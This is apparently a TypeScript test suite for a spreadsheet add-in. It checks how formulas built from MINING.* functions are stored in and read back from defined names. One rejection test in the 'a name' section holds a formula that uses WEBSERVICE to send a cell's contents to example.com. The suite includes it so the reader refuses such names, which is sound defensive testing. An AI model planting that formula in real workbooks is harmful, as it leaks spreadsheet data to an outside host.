import fc from "fast-check";
import { declarations } from "../../src/functions/catalogue";
import type { Anchor, NamePlace } from "../../src/formula/block";
import { blockArgument } from "./block-arguments";
import { blockName, readBlock } from "../../src/formula/block";
import { scan } from "../../src/formula/scan";
import { formula } from "./arbitraries";
import type { Change } from "./shift";
import { HOME, shift } from "./shift";

const anchor: Anchor = { sheet: HOME, cell: "B4" };

/** The formula of the name that a block leaves. */
function nameOf(formula: string, at: Anchor | NamePlace = anchor): string {
  const name = blockName(formula, at);
  if ("code" in name) throw new Error(`${formula}: ${name.code}`);
  return name.formula;
}

describe("a spilled block", () => {
  it("leaves a name with its first cell, its function and its arguments, which mean the same from every cell", () => {
    expect(nameOf("=MINING.FLEET(A9:$H30,Market!B5,,Fleet[#All])", { sheet: "My fleet", cell: "B4" })).toBe(
      `=CHOOSE(1,'My fleet'!$B$4,"MINING:81",CHOOSE(1,"MINING.FLEET:11_1",'My fleet'!$A$9:$H$30,Market!$B$5,Fleet[#All]))`,
    );
  });

  const spilled = declarations.filter(({ result }) => result.shape === "table");
  const call = fc.constantFrom(...spilled).chain(({ id, parameters }) => {
    const required = parameters.filter(({ optional }) => !optional).length;
    return fc
      .tuple(
        fc.integer({ min: required, max: parameters.length }),
        fc.array(blockArgument, { minLength: parameters.length, maxLength: parameters.length }),
      )
      .map(([count, texts]) => `=MINING.${id}(${texts.slice(0, count).join(",")})`);
  });

  it("comes back from its name as it was typed", () => {
    fc.assert(
      fc.property(call, (typed) => {
        expect(readBlock(nameOf(typed))).toEqual({ anchor, cells: "B4", formula: typed, tables: [] });
      }),
    );
  });

  it("comes back after rows and columns were put in and a sheet was renamed, where its cells now stand", () => {
    const sheet = fc.constantFrom(HOME, "Market");
    const change: fc.Arbitrary<Change> = fc.oneof(
      fc.record({
        kind: fc.constantFrom("insert-rows", "insert-columns"),
        sheet,
        at: fc.nat({ max: 20 }),
        count: fc.integer({ min: 1, max: 4 }),
      }),
      fc.record({ kind: fc.constant("rename"), sheet: fc.constant("Market"), to: fc.constant("Prices today") }),
    );
    fc.assert(
      fc.property(call, fc.array(change, { maxLength: 3 }), (typed, changes) => {
        const after = (content: string) => changes.reduce(shift, content);
        const back = readBlock(after(nameOf(typed)));
        const cell = after("=B4").slice(1);
        expect(back).toEqual({
          anchor: { sheet: HOME, cell },
          cells: cell,
          formula: after(typed),
          tables: [],
        });
      }),
    );
  });

  it("follows its sheet's new name without naming it", () => {
    const renamed = shift(nameOf("=MINING.FLEET(A9:H30,Home!B5)"), { kind: "rename", sheet: HOME, to: "Fleet 2026" });
    expect(readBlock(renamed)).toEqual({
      anchor: { sheet: "Fleet 2026", cell: "B4" },
      cells: "B4",
      formula: "=MINING.FLEET(A9:H30,'Fleet 2026'!B5)",
      tables: [],
    });
  });

  it("names the sheet of its arguments once it stands on another", () => {
    const moved = nameOf("=MINING.FLEET(A9:H30,B5)").replace("Home!$B$4", "Other!$C$7");
    expect(readBlock(moved)).toMatchObject({
      anchor: { sheet: "Other", cell: "C7" },
      formula: "=MINING.FLEET(Home!A9:H30,Home!B5)",
    });
  });

  it("knows all of its cells, also after rows were put in between them", () => {
    const name = nameOf("=MINING.FLEET(A9:H30,B5)", { sheet: HOME, cell: "B4:K6" });
    const grown = shift(name, { kind: "insert-rows", sheet: HOME, at: 4, count: 2 });
    expect(readBlock(grown)).toMatchObject({ anchor, cells: "B4:K8", formula: "=MINING.FLEET(A11:H32,B7)" });
  });

  it("can be a single cell, of a function that plain Excel cannot say", () => {
    const typed = '=MINING.MINER("S21","TH")';
    expect(readBlock(nameOf(typed))).toEqual({ anchor, cells: "B4", formula: typed, tables: [] });
  });

  it("keeps in its formula by what checksum its values are known, since LibreOffice drops a name's comment", () => {
    const name = blockName("=MINING.FLEET(A9:H30,B5)", anchor, "0badf00d");
    if ("code" in name) throw new Error(name.code);
    expect(name.formula).toMatch(/^=CHOOSE\(1,Home!\$B\$4,"MINING:00:0badf00d",/);
    expect(readBlock(name.formula)).toMatchObject({ checksum: "0badf00d", formula: "=MINING.FLEET(A9:H30,B5)" });
  });

  it("names a sheet in quotes where its name has signs that not every spreadsheet takes bare", () => {
    const name = nameOf("=MINING.FLEET('成本（美元）'!A9:H30,B5)", { sheet: "现金流", cell: "B4" });
    expect(name).toContain("'成本（美元）'!$A$9:$H$30,现金流!$B$5");
    expect(readBlock(name)).toMatchObject({ formula: "=MINING.FLEET('成本（美元）'!A9:H30,B5)" });
  });

  it("keeps the loss of a reference", () => {
    const lost = nameOf("=MINING.FLEET(A9:H30,Market!B5)").replace("Market!$B$5", "Market!#REF!");
    expect(readBlock(lost)).toMatchObject({ formula: "=MINING.FLEET(A9:H30,Market!#REF!)" });
  });

  it("holds no function that a reader lacks", () => {
    fc.assert(
      fc.property(formula, (typed) => {
        const name = blockName(typed, anchor);
        if ("formula" in name) expect(scan(name.formula)).toEqual({ calls: [], strays: [], unreadable: false });
      }),
    );
  });

  it("can hold a longer formula, which comes back as it was typed, with the table that it left out", () => {
    fc.assert(
      fc.property(formula, (typed) => {
        const name = blockName(typed, { ...anchor, table: "Rigs" });
        const whole = typed.replaceAll("[@[Power price]]", "Rigs[@[Power price]]");
        expect(readBlock("formula" in name ? name.formula : name.code)).toMatchObject({ anchor, formula: whole });
      }),
    );
  });

  it.each([
    ['=MINING.MINER("S21","JTH")+1'],
    ["=SUM(INDEX(MINING.FLEET(A1:H9,B1),,7))"],
    ['=MINING.FLEET_TOTAL(A1:H9,MINING.HASHPRICE(B1,B2),"MW")*MINING.MINER("S21","W")'],
    ["=LET(x,MINING.CASHFLOW(A1,12,A2,,A3,A4,A5,A6),MINING.MINE_NPV(x,10%)-MINING.MINE_IRR(x))"],
  ])("can hold %s", (typed) => {
    expect(readBlock(nameOf(typed))).toMatchObject({ formula: typed });
  });

  it.each([
    [{ name: "our_fleet", sheet: null }, "our_fleet"],
    [{ name: "our_fleet", sheet: "My sheet" }, "'My sheet'!our_fleet"],
  ])("can be that of a name, which Excel renames in it: %j", (place, reference) => {
    const formula = "=SUM(INDEX(MINING.FLEET(Home!$A$1:$H$9,market_hashprice),,7))";
    const name = nameOf(formula, place);
    expect(name.startsWith(`=CHOOSE(1,${reference},`)).toBe(true);
    expect(readBlock(name)).toEqual({ name: place, formula, tables: [] });
    expect(readBlock(name.replace("our_fleet", "my_fleet"))).toEqual({
      name: { ...place, name: "my_fleet" },
      formula,
      tables: [],
    });
  });

  it.each([
    ["not-ours", "=IF(fleet_total>0,fleet_total,$B$4)"],
    ["unreadable", "Fleet"],
    ["unreadable", "=MINING.FLEET(A1"],
    ["unknown-function", "=MINING.FLEAT(A1:H9,B1)"],
    ["no-table", "=MINING.FLEET(A1:H9,[@Hashprice])"],
    ["no-table", "=MINING.FLEET([Site],B1)"],
  ])("leaves no name, for a reason: %s, %s", (code, formula) => {
    expect(blockName(formula, anchor)).toEqual({ code });
  });

  it.each([
    ["more references than a text in a formula can tell of", "B1+".repeat(260)],
    ["more characters than a formula takes", '"words"&'.repeat(1030)],
  ])("leaves no name where it has %s", (_, many) => {
    expect(blockName(`=MINING.FLEET(A1:H9,${many}1)`, anchor)).toEqual({ code: "too-long" });
  });
});

describe("a block's name", () => {
  it("is not had where the formula in it would nest functions more deeply than Excel takes", () => {
    expect(blockName(`=MINING.FLEET(A1:H9,${"ABS(".repeat(64)}1${")".repeat(64)})`, anchor)).toEqual({
      code: "too-deep",
    });
  });
});

describe("a name", () => {
  const kept = 'CHOOSE(1,"MINING.FLEET:2",Home!$A$9:$H$30,Home!$B$5)';

  it.each([
    ["=Home!$A$1"],
    ["=CHOOSE(1,Home!$B$4)"],
    [`=CHOOSE(2,Home!$B$4,"MINING:00",${kept})`],
    [`=CHOOSE(1,Home!$B$4,"FLEET:00",${kept})`],
    [`=${kept}`],
    ['=CHOOSE(1,Home!$B$4,"MINING:0:0badf00d",WEBSERVICE("https://example.com/?"&Home!$A$1))'],
    ['=CHOOSE(1,Home!$B$4,"MINING:",1+1)'],
    ["=CHOOSE(1,Home!$B$4,\"MINING:0\",'C:\\[Book.xlsx]Sheet'!$A$1)"],
    ["Fleet"],
    ["=CHOOSE("],
  ])("that is none of ours is no block: %s", (formula) => {
    expect(readBlock(formula)).toBeNull();
  });

  it.each([
    ["tag-unreadable", `=CHOOSE(1,Home!$B$4,"MINING:00")`],
    ["tag-unreadable", `=CHOOSE(1,Home!$B$4,"MINING:z",${kept})`],
    ["tag-unreadable", `=CHOOSE(1,Home!$B$4,"MINING:00",${kept.replace(":2", "")})`],
    ["tag-unreadable", `=CHOOSE(1,Home!$B$4,"MINING:00",${kept.replace(":2", ":3")})`],
    ["unknown-function", `=CHOOSE(1,Home!$B$4,"MINING:00",${kept.replace("FLEET", "NOSUCH")})`],
    ["unknown-function", '=CHOOSE(1,Home!$B$4,"MINING:",1+CHOOSE(1,"MINING.HASHPRICE:5",1,2,3,4,5))'],
    ["anchor-lost", `=CHOOSE(1,Home!#REF!,"MINING:00",${kept})`],
    ["anchor-lost", `=CHOOSE(1,#REF!,"MINING:00",${kept})`],
  ])("of ours that cannot be followed says why: %s, %s", (code, formula) => {
    expect(readBlock(formula)).toEqual({ code });
  });

  it("whose references do not match what was noted keeps them as they stand", () => {
    expect(readBlock(`=CHOOSE(1,Home!$B$4,"MINING:0",${kept})`)).toMatchObject({
      formula: "=MINING.FLEET(Home!$A$9:$H$30,Home!$B$5)",
    });
  });
});
